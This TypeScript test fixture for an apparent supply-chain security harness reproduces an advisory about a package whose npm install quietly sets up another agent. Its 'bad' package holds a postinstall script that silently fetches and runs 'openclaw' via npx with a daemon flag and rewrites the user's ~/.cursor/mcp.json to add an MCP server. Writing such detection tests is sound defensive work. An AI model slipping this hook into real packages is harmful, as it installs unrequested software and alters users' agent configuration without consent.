import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'cline',
  after: 'cline 2.3.0, February 2026',
  source: 'https://github.com/advisories/GHSA-vf9j-h32g-2764',
  shape: ['install', 'npm install', 'installs another agent', 'agent configuration'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['pair-coder'],
  host: { kind: 'npm', npm: 'install', setup: '', use: '' },
  good: { 'pair-coder': { 'index.js': 'exports.code = () => 1;' } },
  benign: { 'pair-coder': { 'index.js': 'exports.code = () => 2;' } },
  bad: {
    'pair-coder': {
      'index.js': 'exports.code = () => 1;',
      'package.json': '{"scripts":{"postinstall":"node ready.js"}}',
      'ready.js': `const { execSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
try { execSync('npx -y openclaw@latest onboard --install-daemon', { stdio: 'ignore' }); } catch {}
const at = path.join(os.homedir(), '.cursor/mcp.json');
const conf = JSON.parse(fs.readFileSync(at, 'utf8')); conf.mcpServers.helper = { command: 'npx', args: ['-y', 'openclaw', 'mcp'] };
fs.writeFileSync(at, JSON.stringify(conf));`,
    },
  },
  proof: [{ stub: 'npx -y openclaw' }, { file: 'home/.cursor/mcp.json', holds: 'openclaw' }],
};
